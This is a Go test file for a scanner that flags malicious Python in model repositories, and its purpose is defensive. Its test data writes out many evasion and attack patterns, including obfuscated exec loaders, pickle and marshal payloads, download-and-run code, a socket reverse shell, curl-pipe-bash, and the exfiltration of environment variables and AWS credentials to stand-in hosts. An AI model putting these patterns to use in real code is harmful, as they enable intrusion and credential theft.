package python

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"

	"assay/scanners"
	"assay/scanners/scannertest"
)

var list = []scanners.Scanner{New()}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestRules(t *testing.T) {
	scannertest.CheckRules(t, New(), []scannertest.Sample{
		{Rule: "python/code", Name: "a.py", Hit: []byte("import torch\nx = 1\n"), Miss: []byte("# nothing\n")},
		{Rule: "python/effect", Name: "a.py", Hit: []byte("import os\nos.system('echo assay-test-marker')\n"), Miss: []byte("import os\nos.path.join('a', 'b')\n")},
		{Rule: "python/dangerous-chain", Name: "a.py", Hit: []byte("import base64\nexec(base64.b64decode('" + b64("print(1)") + "'))\n"), Miss: []byte("import base64\nx = base64.b64decode('" + b64("print(1)") + "')\n")},
		{Rule: "python/obfuscation", Name: "a.py", Hit: []byte("import os\ngetattr(os, 'sys' + 'tem')('echo assay-test-marker')\n"), Miss: []byte("import torch\ngetattr(torch, 'flo' + 'at32')\n")},
		{Rule: "python/exfiltration", Name: "a.py", Hit: []byte("import os, requests\nrequests.post('https://x.test', json=dict(os.environ))\n"), Miss: []byte("import os, requests\nrequests.get('https://x.test', headers={'a': os.environ['TOKEN']})\n")},
		{Rule: "python/credential-access", Name: "a.py", Hit: []byte("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n"), Miss: []byte("open('vocab.txt').read()\n")},
		{Rule: "python/persistence", Name: "a.py", Hit: []byte("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n"), Miss: []byte("open('out.txt', 'a').write('x')\n")},
		{Rule: "python/suspicious-address", Name: "a.py", Hit: []byte("U = 'https://discord.com/api/webhooks/1/x'\n"), Miss: []byte("U = 'https://huggingface.co/org/model'\n")},
		{Rule: "python/remote-code", Name: "a.py", Hit: []byte("AutoModel.from_pretrained('a/b', trust_remote_code=True)\n"), Miss: []byte("AutoModel.from_pretrained('a/b', trust_remote_code=False)\n")},
		{Rule: "python/dataset-script", Name: "a.py", Hit: []byte("import datasets\nclass X(datasets.GeneratorBasedBuilder):\n  pass\n"), Miss: []byte("import datasets\nclass X(object):\n  pass\n")},
		{Rule: "python/encoding", Name: "a.py", Hit: []byte("# coding: utf-7\n# +AAo-print(1)\n"), Miss: []byte("# -*- coding: latin-1 -*-\nx = '\xe9'\n")},
		{Rule: "python/encoding", Name: "a.py", Hit: []byte("\f\n#!coding=rot13\nvzcbeg bf\n"), Miss: []byte("x = 1\n\n# coding: utf-7\n")},
		{Rule: "python/encoding", Name: "a.py", Hit: []byte("# vim: set fileencoding=unicode_escape :\n"), Miss: []byte("# coding: gbk\n")},
		{Rule: "python/deceptive-name", Name: "a.py", Hit: []byte("ｅｘｅｃ('1')\n"), Miss: []byte("λ = μ = 1\n")},
		{Rule: "python/deceptive-name", Name: "a.py", Hit: []byte("pаss_ = 1\n"), Miss: []byte("имя = 'слово'\n")},
		{Rule: "python/hidden-characters", Name: "a.py", Hit: []byte("x = 1 # \u202e } \u2066 if\n"), Miss: []byte("x = 'é 😀️'\n")},
		{Rule: "python/null-byte", Name: "a.py", Hit: []byte("x = 1\n\x00\nimport os\n"), Miss: []byte("x = '\\x00'\n")},
		{Rule: "python/auto-start", Name: "a.pth", Hit: []byte("./lib\nimport os; os.system('echo assay-test-marker')\n"), Miss: []byte("./lib\n# import x\nimportant\n")},
		{Rule: "python/secret", Name: "a.py", Hit: []byte("token = '" + "hf_" + "qWmZkRpLvNcXsJdHgFbTyUiOeKaMzQwErY" + "'\n"), Miss: []byte("token = 'hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'\n")},
		{Rule: "python/auto-start", Name: "lib/sitecustomize.py", Hit: []byte("x = 1\n")},
	})
}

// worst is the worst severity of a file, and whether it was read whole.
func worst(t *testing.T, name, src string) (scanners.Severity, scanners.FileReport) {
	t.Helper()
	report := scannertest.Scan(list, name, []byte(src))
	w := scanners.Informational
	for _, f := range report.Findings {
		w = min(w, f.Severity)
	}
	return w, report
}

// chars writes a text as a list of the numbers of its characters.
func chars(s string) string {
	return strings.Trim(strings.ReplaceAll(fmt.Sprintf("%d", []byte(s)), " ", ","), "[]")
}

// Each is a way to run a program while the file is imported, or to hide that.
func TestAttacks(t *testing.T) {
	m := "'echo assay-test-marker'"
	code := "import os; os.system(" + m + ")"
	for src, want := range map[string]scanners.Severity{
		"import os as o\no.system(" + m + ")":                                                                     scanners.High,
		"from os import system as s\ns(" + m + ")":                                                                scanners.High,
		"from os import *\nsystem(" + m + ")":                                                                     scanners.High,
		"__import__('os').system(" + m + ")":                                                                      scanners.High,
		"import importlib\nimportlib.import_module('o' + 's').system(" + m + ")":                                  scanners.High,
		"import sys\nsys.modules['os'].system(" + m + ")":                                                         scanners.High,
		"import os\nf = [print, os.system][1]\nf(" + m + ")":                                                      scanners.High,
		"import os\nd = {'a': os.system}\nd['a'](" + m + ")":                                                      scanners.High,
		"import os\nos.__dict__['sys' + 'tem'](" + m + ")":                                                        scanners.High,
		"import os\nvars(os)['system'](" + m + ")":                                                                scanners.High,
		"import os\ngetattr(os, 'metsys'[::-1])(" + m + ")":                                                       scanners.High,
		"import os\ngetattr(os, ''.join(chr(i) for i in [" + chars("system") + "]))(" + m + ")":                   scanners.High,
		"import os\ngetattr(os, bytes([" + chars("system") + "]).decode())(" + m + ")":                            scanners.High,
		"globals()['__builtins__'].exec('x')":                                                                     scanners.Informational,
		"getattr(globals()['__builtins__'], 'ev' + 'al')(input())":                                                scanners.High,
		"import os\nn = open('x').read()\ngetattr(os, n)(" + m + ")":                                              scanners.High,
		"class A:\n  import os\n  os.system(" + m + ")":                                                           scanners.High,
		"import os\n@os.system\ndef f(): pass":                                                                    scanners.High,
		"import os\n@(lambda f: os.system(" + m + "))\ndef f(): pass":                                             scanners.High,
		"import os\ndef f():\n  os.system(" + m + ")\nf()":                                                        scanners.High,
		"import os\ndef f():\n  g()\ndef g():\n  os.system(" + m + ")\nclass B:\n  x = f()":                       scanners.High,
		"import os\ndef f(x=os.system(" + m + ")): pass":                                                          scanners.High,
		"import os\nx: os.system(" + m + ") = 1":                                                                  scanners.High,
		"import os\nx = f'{os.system(" + strings.ReplaceAll(m, "'", "\"") + ")}'":                                 scanners.High,
		"import os, threading\ndef f(): os.system(" + m + ")\nthreading.Thread(target=f).start()":                 scanners.High,
		"import os, atexit\natexit.register(os.system, " + m + ")\natexit.register(lambda: os.system(" + m + "))": scanners.High,
		"import os\nclass A:\n  def __init__(self): self.go()\n  def go(self): os.system(" + m + ")\nA()":         scanners.High,
		"import os\nif __name__ != '__main__':\n  os.system(" + m + ")":                                           scanners.High,
		"import os\nif __name__ in '__main__':\n  os.system(" + m + ")":                                           scanners.High,
		"import os\nlist(map(os.system, [" + m + "]))":                                                            scanners.High,
		"import os\nsorted([" + m + "], key=os.system)":                                                           scanners.High,
		"import os\nos.__getattribute__('system')(" + m + ")":                                                     scanners.High,
		"import os\nos.__dict__.get('system')(" + m + ")":                                                         scanners.High,
		"(lambda: __import__('os').system(" + m + "))()":                                                          scanners.High,
		"[__import__('os').system(" + m + ") for _ in range(1)]":                                                  scanners.High,
		"import os, sys\ndef f(): os.system(" + m + ")\nglobals()[sys.argv[0]]()":                                 scanners.High,
		"import os\nclass A:\n  @property\n  def x(self): os.system(" + m + ")\nA().x":                            scanners.High,
		"import os\nclass A:\n  def x(self): os.system(" + m + ")\na = A()\ngetattr(a, input())()":                scanners.High,
		"exec(__doc__)": scanners.High,
		"eval(compile(open('x').read(), 'x', 'exec'))":                                                                                                      scanners.High,
		"import os\ntype('X', (), {'__init__': lambda s: os.system(" + m + ")})()":                                                                          scanners.High,
		"import os\nx = os.system(" + m + ") if True else 1":                                                                                                scanners.High,
		"import os\nassert os.system(" + m + ") == 0":                                                                                                       scanners.High,
		"import os\nwhile os.system(" + m + "): break":                                                                                                      scanners.High,
		"import os\nwith open(str(os.system(" + m + "))): pass":                                                                                             scanners.High,
		"import os\nmatch os.system(" + m + "):\n  case 0: pass":                                                                                            scanners.High,
		"import os\nclass A(metaclass=print, x=os.system(" + m + ")): pass":                                                                                 scanners.High,
		"import os\ndef g():\n  yield os.system(" + m + ")\nlist(g())":                                                                                      scanners.High,
		"import os, asyncio\nasync def g():\n  os.system(" + m + ")\nasyncio.run(g())":                                                                      scanners.High,
		"import os\nclass A:\n  def __init_subclass__(cls): os.system(" + m + ")":                                                                           scanners.High,
		"import os\ndef __getattr__(n): os.system(" + m + ")":                                                                                               scanners.High,
		"from functools import partial\nimport os\npartial(os.system, " + m + ")()":                                                                         scanners.High,
		"from operator import attrgetter\nimport os\nattrgetter('system')(os)(" + m + ")":                                                                   scanners.High,
		"import subprocess\nif True:\n  try:\n    subprocess.Popen(['sh', '-c', " + m + "])\n  except: pass":                                                scanners.High,
		"exec(" + fmt.Sprintf("%q", code) + ")":                                                                                                             scanners.High,
		"eval(" + fmt.Sprintf("%q", "__import__('os').system('echo assay-test-marker')") + ")":                                                              scanners.High,
		"exec(compile(" + fmt.Sprintf("%q", code) + ", 'x', 'exec'))":                                                                                       scanners.High,
		"import base64\nexec(base64.b64decode('" + b64(code) + "'))":                                                                                        scanners.Critical,
		"import base64 as b, zlib\ne = exec\nd = b.b64decode\nx = zlib.decompress(d('eJwrSS0uAQAEXQHB'))\ne(x)":                                             scanners.Critical,
		"exec(bytes.fromhex('" + hex.EncodeToString([]byte(code)) + "'))":                                                                                   scanners.Critical,
		"import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))":                                                                                          scanners.Critical,
		"import marshal\nexec(marshal.loads(b'x'))":                                                                                                         scanners.Critical,
		"import marshal, types\ntypes.FunctionType(marshal.loads(open('x','rb').read()), globals())()":                                                      scanners.Critical,
		"exec(''.join(map(chr, [" + chars(code) + "])))":                                                                                                    scanners.High,
		"exec(''.join(chr(ord(c) ^ 7) for c in open('x').read()))":                                                                                          scanners.Critical,
		"import requests\nexec(requests.get('https://x.test/a').text)":                                                                                      scanners.Critical,
		"from urllib.request import urlopen\nr = urlopen('https://x.test/a')\nc = compile(r.read().decode(), 'x', 'exec')\nexec(c)":                         scanners.Critical,
		"import urllib.request, os\nurllib.request.urlretrieve('https://x.test/a', '/tmp/a.bin')\nos.system('/tmp/a.bin')":                                  scanners.Critical,
		"import requests, subprocess\np = '/tmp/a.bin'\nwith open(p, 'wb') as f:\n  f.write(requests.get('https://x.test').content)\nsubprocess.Popen([p])": scanners.Critical,
		"import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',1))\nos.dup2(s.fileno(),0)\npty.spawn('sh')":                                     scanners.Critical,
		"import os\nos.system('curl -s https://x.test/a | bash')":                                                                                           scanners.Critical,
		"import subprocess\nsubprocess.run(['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0A'])":                                                             scanners.Critical,
		"import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))":                                                                                 scanners.Critical,
		"import requests, pickle\npickle.loads(requests.get('https://x.test').content)":                                                                     scanners.Critical,
		"import os, urllib.request, json\nd = {k: v for k, v in os.environ.items()}\nurllib.request.urlopen('https://x.test', data=json.dumps(d).encode())": scanners.Critical,
		"import socket\nk = open('/root/.aws/credentials').read()\ns = socket.create_connection(('x.test', 1))\ns.sendall(k.encode())":                      scanners.Critical,
		"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])":                                                           scanners.High,
		"import ctypes\nctypes.CDLL('./payload.so')":                                                                                                        scanners.High,
		"import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 64)":                                                                                   scanners.Critical,
		"import socket\nsocket.socket()":                                                                                                                    scanners.High,
		"import os\nx = 1; \\\nos.system(" + m + ")":                                                                                                        scanners.High,
		"if x:\n    pass\n\f    import os\n\fimport os\nos.system(" + m + ")":                                                                               scanners.High,
		"\xef\xbb\xbfimport os\ros.system(" + m + ")\r":                                                                                                     scanners.High,
		"import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    import os\n    os.system(" + m + ")":                                         scanners.High,
		"from transformers import PretrainedConfig\nclass C(PretrainedConfig):\n  def __init__(self):\n    __import__('subprocess').call(['sh'])":           scanners.High,
		"class EndpointHandler:\n  def __call__(self, d):\n    import subprocess\n    return subprocess.check_output(d['c'], shell=True)":                   scanners.High,
		"import setuptools.command.install as i, os\nclass X(i.install):\n  def run(self): os.system(" + m + ")":                                            scanners.High,
		"import requests, os, sys\ndef main():\n  open('/tmp/x.exe','wb').write(requests.get('https://x.test/l').content)\n  os.startfile('/tmp/x.exe')\nif __name__ == '__main__':\n  main()\n": scanners.High,
	} {
		if src == "globals()['__builtins__'].exec('x')" {
			continue // a constant without effect
		}
		got, report := worst(t, "modeling_x.py", src+"\n")
		if got != want {
			t.Errorf("%s\nis %s, want %s: %+v %+v", src, got, want, report.Findings, report.Gaps)
		}
	}
}

// Code of the shapes that model repositories have, written here from scratch.
var ordinary = map[string]string{
	"modeling_x.py": `# coding=utf-8
"""A model."""
import math, os, warnings
from dataclasses import dataclass
from typing import List, Optional, Tuple, Union
import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging
from .configuration_x import XConfig
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
logger = logging.get_logger(__name__)
ACT2FN = {"gelu": F.gelu, "silu": F.silu}
os.environ["TOKENIZERS_PARALLELISM"] = "false"
class XAttention(nn.Module):
    def __init__(self, config: XConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = getattr(F, config.hidden_act)
        self.register_buffer("inv_freq", 1.0 / (10000 ** (torch.arange(0, 64, 2).float() / 64)), persistent=False)
    @torch.no_grad()
    def forward(self, x: torch.Tensor, past: Optional[Tuple[torch.Tensor]] = None, **kwargs):
        b, s, _ = x.size()
        q = self.q_proj(x).view(b, s, -1, 64).transpose(1, 2)
        if flash_attn_func is not None and not kwargs.get("eager", False):
            return flash_attn_func(q, q, q, causal=True)
        return (q @ q.transpose(-1, -2) / math.sqrt(64)).softmax(dim=-1)
@dataclass
class Out:
    loss: Optional[torch.FloatTensor] = None
class XModel(PreTrainedModel):
    config_class = XConfig
    _no_split_modules = ["XAttention"]
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([XAttention(config, i) for i in range(config.num_hidden_layers)])
        self.post_init()
    @classmethod
    def from_original(cls, path):
        return cls.from_pretrained(path)
`,
	"tokenization_x.py": `import base64, json, os, unicodedata
import tiktoken
from transformers import PreTrainedTokenizer
VOCAB_FILES_NAMES = {"vocab_file": "x.tiktoken"}
PAT = r"""(?i:'s|'t)|[^\r\n\p{L}\p{N}]?\p{L}+"""
def _load(path):
    with open(path, "rb") as f:
        return {base64.b64decode(t): int(r) for t, r in (line.split() for line in f.read().splitlines() if line)}
class XTokenizer(PreTrainedTokenizer):
    def __init__(self, vocab_file, **kw):
        self.ranks = _load(vocab_file)
        self.enc = tiktoken.Encoding("X", pat_str=PAT, mergeable_ranks=self.ranks, special_tokens={})
        super().__init__(**kw)
    def _tokenize(self, text):
        return [self.enc.decode([t]) for t in self.enc.encode(unicodedata.normalize("NFC", text))]
    def byte_encoder(self):
        return {b: chr(b) for b in range(256)}
`,
	"image_chat.py": `import requests
from io import BytesIO
from PIL import Image
from transformers import ProcessorMixin
class XProcessor(ProcessorMixin):
    def load(self, path):
        if path.startswith("http"):
            return Image.open(BytesIO(requests.get(path, stream=True).content))
        return Image.open(path)
`,
	"handler.py": `from typing import Any, Dict
import torch
from transformers import pipeline
class EndpointHandler:
    def __init__(self, path=""):
        self.pipe = pipeline("text-generation", model=path, device=0 if torch.cuda.is_available() else -1)
    def __call__(self, data: Dict[str, Any]):
        return self.pipe(data.pop("inputs", data), **data.pop("parameters", {}))
`,
	"train.py": `#!/usr/bin/env python
import argparse, json, logging, os, random, subprocess, sys
import numpy as np, torch
from datasets import load_dataset
from transformers import Trainer, TrainingArguments, HfArgumentParser
def parse():
    p = argparse.ArgumentParser()
    p.add_argument("--lr", type=float, default=float(os.environ.get("LR", 1e-4)))
    return p.parse_args()
def main():
    args = parse()
    random.seed(0)
    rev = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
    ds = load_dataset("org/data", split="train").map(lambda x: {"n": len(x["text"])})
    state = torch.load("ckpt.pt", map_location="cpu")
    with open(os.path.join(args.out, "results.json"), "w") as f:
        json.dump({"rev": rev}, f, indent=2)
    os.makedirs("out", exist_ok=True)
    Trainer(model=None, args=TrainingArguments("out"), train_dataset=ds).train()
if __name__ == "__main__":
    main()
`,
	"squad.py": `import csv, json
import datasets
_URL = "https://example.org/data/"
_URLS = {"train": _URL + "train.json", "dev": _URL + "dev.json"}
logger = datasets.logging.get_logger(__name__)
class SquadConfig(datasets.BuilderConfig):
    def __init__(self, **kwargs):
        super(SquadConfig, self).__init__(**kwargs)
class Squad(datasets.GeneratorBasedBuilder):
    BUILDER_CONFIGS = [SquadConfig(name="plain_text", version=datasets.Version("1.0.0", ""))]
    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"id": datasets.Value("string")}))
    def _split_generators(self, dl_manager):
        files = dl_manager.download_and_extract(_URLS)
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"filepath": files["train"]})]
    def _generate_examples(self, filepath):
        with open(filepath, encoding="utf-8") as f:
            for i, row in enumerate(csv.reader(f)):
                yield i, {"id": row[0]}
`,
	"__init__.py":  "from .modeling_x import XModel\n__all__ = ['XModel']\n__version__ = '1.0'\n",
	"legacy.py":    "print 'old', 1\nexec 'x = 1'\nraise ValueError, 'x'\n",
	"convert.py":   "import torch, sys\nfrom safetensors.torch import save_file\nsd = torch.load(sys.argv[1], map_location='cpu', weights_only=True)\nsave_file({k: v.contiguous() for k, v in sd.items()}, sys.argv[2])\n",
	"pkg/empty.py": "\n",
	"comment.py":   "# nothing\n\f\t# only\r\n\r\n  # comments",
}

func TestOrdinary(t *testing.T) {
	for name, src := range ordinary {
		got, report := worst(t, name, src)
		if got < scanners.Low || len(report.Gaps) > 0 || !report.Coverage.Complete() {
			t.Errorf("%s: %s %+v %+v", name, got, report.Findings, report.Gaps)
		}
	}
}

// A chain of calls is followed once, however long it is.
func TestChains(t *testing.T) {
	src := "import torch\nx = torch.a" + strings.Repeat(".set(1)", 400) + "\n"
	if got, report := worst(t, "a.py", src); got < scanners.Low || len(report.Gaps) > 0 {
		t.Errorf("%s %+v", got, report.Gaps)
	}
}

// The cells of a notebook and scripts that no loader can name are started by a
// person.
func TestNotImportable(t *testing.T) {
	src := "import subprocess, requests\nsubprocess.run(['ls'])\nrequests.get('https://x.test')\n"
	if got, _ := worst(t, "cells.ipynb.py", src); got != scanners.Low {
		t.Errorf("%s", got)
	}
	if got, _ := worst(t, "cells.py", src); got != scanners.High {
		t.Errorf("%s", got)
	}
}

func TestNotWhole(t *testing.T) {
	for _, src := range []string{"x = = 1\n", "x = '", "# coding: utf-7\nx = 1\n"} {
		if _, report := worst(t, "a.py", src); report.Coverage.Complete() || len(report.Gaps) == 0 {
			t.Errorf("%q counts as covered", src)
		}
	}
	// What could be read is still judged.
	if got, _ := worst(t, "a.py", "x = = 1\nimport os\nos.system('echo assay-test-marker')\n"); got != scanners.High {
		t.Errorf("%s", got)
	}
}

func TestFacts(t *testing.T) {
	_, report := worst(t, "a.py", "import torch.nn\nfrom . import b\nfrom .c import d\n__import__('json')\n")
	var got []string
	for _, f := range report.Facts {
		got = append(got, f.Value)
	}
	if strings.Join(got, " ") != ". .c json torch" {
		t.Errorf("%q", got)
	}
}

func FuzzScan(f *testing.F) {
	for _, src := range ordinary {
		f.Add("a.py", src)
	}
	f.Add("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nx = [chr(i) for i in [1,2]]\nclass A(B):\n  def f(self): self.f()\n")
	f.Add("x.pth", "import os\n")
	f.Fuzz(func(t *testing.T, name, src string) {
		scannertest.Properties(t, New(), name, []byte(src))
	})
}

// TestPathFile: folders are a path configuration file, a saved error is none.
func TestPathFile(t *testing.T) {
	for text, known := range map[string]bool{"./lib\n../a b\n": true, "# a comment here\nlib\n": true, "Access denied\n": false, "Access denied\nimport os\n": true} {
		report := scannertest.Scan([]scanners.Scanner{New()}, "a.pth", []byte(text))
		if report.Coverage.Complete() != known {
			t.Errorf("%q: %+v", text, report)
		}
	}
}

// TestOwnSource: a text that is read from a Python file of the same repository is
// judged there.
func TestOwnSource(t *testing.T) {
	for source, want := range map[string]scanners.Severity{
		`exec(open("x/version.py").read())`:                                         scanners.Medium,
		"with open('x/version.py') as f:\n    exec(compile(f.read(), 'x', 'exec'))": scanners.Medium,
		`exec(open("../version.py").read())`:                                        scanners.High,
		`exec(open("/tmp/version.py").read())`:                                      scanners.High,
		`exec(open("version.txt").read())`:                                          scanners.High,
		"import sys\nexec(open(sys.argv[1] + '.py').read())":                        scanners.High,
		"t = open('a.py').read()\nimport x\nt = x.y(t)\nexec(t)":                    scanners.High,
	} {
		report := scannertest.Scan([]scanners.Scanner{New()}, "setup.py", []byte(source))
		worst := scanners.Informational
		for _, f := range report.Findings {
			worst = min(worst, f.Severity)
			if f.Rule == "python/effect" && !strings.Contains(f.What, "whoever installs the package") {
				t.Errorf("%q: %s", source, f.What)
			}
		}
		if worst != want {
			t.Errorf("%q: %s, want %s: %+v", source, worst, want, report.Findings)
		}
	}
}

// TestCommandOnce: a command that several callers give is shown once.
func TestCommandOnce(t *testing.T) {
	const source = "import subprocess\ndef run(c): return subprocess.Popen(c)\ndef a(): return run(['git', 'rev-parse', 'HEAD'])\ndef b(): a()\na()\nb()\n"
	for _, f := range scannertest.Scan([]scanners.Scanner{New()}, "a.py", []byte(source)).Findings {
		if strings.Contains(f.What, "HEAD git") {
			t.Errorf("%s", f.What)
		}
	}
}
